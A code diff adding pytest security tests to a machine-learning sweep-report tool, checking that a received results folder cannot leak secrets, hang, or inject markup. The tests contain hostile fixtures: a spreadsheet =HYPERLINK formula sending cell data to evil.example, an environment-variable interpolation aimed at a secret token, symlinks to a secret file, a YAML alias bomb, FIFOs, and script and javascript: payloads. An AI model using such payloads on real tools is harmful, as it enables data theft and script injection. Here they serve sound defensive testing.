@@ -172,3 +172,136 @@ def test_no_git_commit_outside_a_git_checkout(tmp_path: Path) -> None:
 
     assert git_commit(tmp_path) is None
     assert {"python", "torch", "pytorch-lightning", "deepimg"} <= set(versions())
+
+
+# ---- a sweep folder someone sent: read as data, never as a way in --------------------------
+
+
+def sent_sweep(tmp_path: Path) -> Path:
+    """Two completed runs and one that never finished, as a report receives them."""
+    sweep = tmp_path / "sent"
+    for n, bits in enumerate((1, 4, 8)):
+        make_run(
+            sweep / str(n),
+            [f"physical_layer.bits={bits}"],
+            {"physical_layer": {"bits": bits}},
+            None if bits == 8 else {"test/acc": 0.5 + bits / 100},
+        )
+    return sweep
+
+
+def everything_written(sweep: Path, capsys) -> str:
+    """The report's files and what it printed, as one text."""
+    out = sweep / "report"
+    files = [out / "index.html", out / "runs.csv", out / "summary.csv", out / "summary.md"]
+    printed = capsys.readouterr()
+    return "".join(f.read_text() for f in files) + printed.out + printed.err
+
+
+def test_a_log_symlinked_to_a_secret_is_not_copied_into_the_report(tmp_path: Path, capsys) -> None:
+    secret = tmp_path / "environ"
+    secret.write_text("SECRET_TOKEN=hunter2\n")
+    sweep = sent_sweep(tmp_path)
+    for name in ("a.log", "train.log", "error.log"):
+        (sweep / "2" / name).symlink_to(secret)
+    report([sweep], metrics=["test/acc"])
+    written = everything_written(sweep, capsys)
+    assert "hunter2" not in written
+    assert "leads outside" in written  # the failed run says why its log was not shown
+
+
+def test_a_fifo_named_like_a_log_does_not_hang_the_report(tmp_path: Path, capsys) -> None:
+    import os
+
+    from tests.config.test_received import finishes_within
+
+    sweep = sent_sweep(tmp_path)
+    os.mkfifo(sweep / "2" / "train.log")
+    (sweep / "0" / "metrics.json").unlink()
+    os.mkfifo(sweep / "0" / "metrics.json")  # a completed run's record is a FIFO
+    done, result = finishes_within(60, lambda: report([sweep], metrics=["test/acc"]))
+    assert done, "the report hung on a FIFO"
+    assert not isinstance(result, Exception), result
+    assert "not a regular file" in everything_written(sweep, capsys)
+
+
+def test_only_deepimgs_own_logs_are_shown(tmp_path: Path, capsys) -> None:
+    sweep = sent_sweep(tmp_path)
+    (sweep / "2" / "other.log").write_text("a line from some other program\n")
+    (sweep / "2" / "train.log").write_text("[INFO] - epoch 0\n[ERROR] - out of memory\n")
+    report([sweep], metrics=["test/acc"])
+    written = everything_written(sweep, capsys)
+    assert "out of memory" in written and "some other program" not in written
+
+
+def test_interpolations_in_a_received_config_are_shown_as_written(
+    tmp_path: Path, capsys, monkeypatch
+) -> None:
+    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
+    sweep = sent_sweep(tmp_path)
+    for n, tag in enumerate(["${oc.env:SECRET_TOKEN}", "${nosuch:x}", "plain"]):
+        config = sweep / str(n) / ".hydra" / "config.yaml"
+        config.write_text(config.read_text() + f"tag: '{tag}'\n")
+        overrides = sweep / str(n) / ".hydra" / "overrides.yaml"
+        overrides.write_text(overrides.read_text() + f"- tag={tag}\n")
+    summary = report([sweep], metrics=["test/acc"])
+    written = everything_written(sweep, capsys)
+    assert "hunter2" not in written
+    assert "${oc.env:SECRET_TOKEN}" in written and "${nosuch:x}" in written
+    assert len(summary) == 2  # the two completed runs, each its own setting
+
+
+def test_nested_aliases_make_one_run_unreadable_not_the_report_slow(tmp_path: Path, capsys) -> None:
+    from tests.config.test_received import BILLION_LAUGHS
+
+    sweep = sent_sweep(tmp_path)
+    config = sweep / "1" / ".hydra" / "config.yaml"
+    config.write_text(config.read_text() + BILLION_LAUGHS)
+    summary = report([sweep], metrics=["test/acc"])
+    assert summary["bits"].tolist() == [1]
+    runs = pd.read_csv(sweep / "report" / "runs.csv")
+    assert "YAML nodes" in runs.loc[runs["run"].str.endswith("/1"), "error"].item()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    for n, value in enumerate([formula, "@SUM(1+1)", "-0.5"]):
+        make_run(tmp_path / str(n), [f"tag={value}"], {"tag": value}, {"test/acc": 0.5 + n / 10})
+    report([tmp_path], metrics=["test/acc"])
+    for name in ("summary.csv", "runs.csv"):
+        tags = pd.read_csv(tmp_path / "report" / name, dtype=str)["tag"].tolist()
+        assert sorted(tags) == sorted(["'" + formula, "'@SUM(1+1)", "-0.5"])  # a number stays
+
+
+def test_markdown_and_html_show_markup_as_text(tmp_path: Path) -> None:
+    from tests.analysis.pages import references
+
+    script = "<script>alert(1)</script>"
+    for n, value in enumerate([script, "[click](javascript:alert(2))"]):
+        make_run(tmp_path / str(n), [f"tag={value}"], {"tag": value}, {"test/acc": 0.5 + n / 10})
+    named = tmp_path / "javascript:alert(3)"
+    make_run(named, ["tag=x"], {"tag": "x"}, {"test/acc": 0.9})
+    (named / "index.html").write_text("<html>a run's page</html>")
+    report([tmp_path], metrics=["test/acc"])
+    md = (tmp_path / "report" / "summary.md").read_text()
+    assert "<script>" not in md and "&lt;script&gt;" in md
+    assert "\\[click\\](javascript:alert(2))" in md  # escaped brackets: text, not a link
+    page = tmp_path / "report" / "index.html"
+    assert "<script>" not in page.read_text()
+    links = references(page).links
+    assert "../javascript%3Aalert%283%29/index.html" in links
+    assert not [href for href in links if ":" in href.split("/")[0]]  # no scheme, ever
+
+
+def test_the_report_never_writes_over_a_run(tmp_path: Path) -> None:
+    sweep = sent_sweep(tmp_path)
+    run = sweep / "0"
+    (run / "index.html").write_text("the run's own page")
+    (run / "analysis").mkdir()
+    for out in (run, sweep, run / "analysis"):
+        with pytest.raises(UserError, match="holds runs"):
+            report([run], metrics=["test/acc"], out=out)
+    assert (run / "index.html").read_text() == "the run's own page"
+    assert not (sweep / "summary.csv").exists()
+    report([run], metrics=["test/acc"], out=tmp_path / "elsewhere")  # a new folder is fine
+    assert (tmp_path / "elsewhere" / "index.html").is_file()
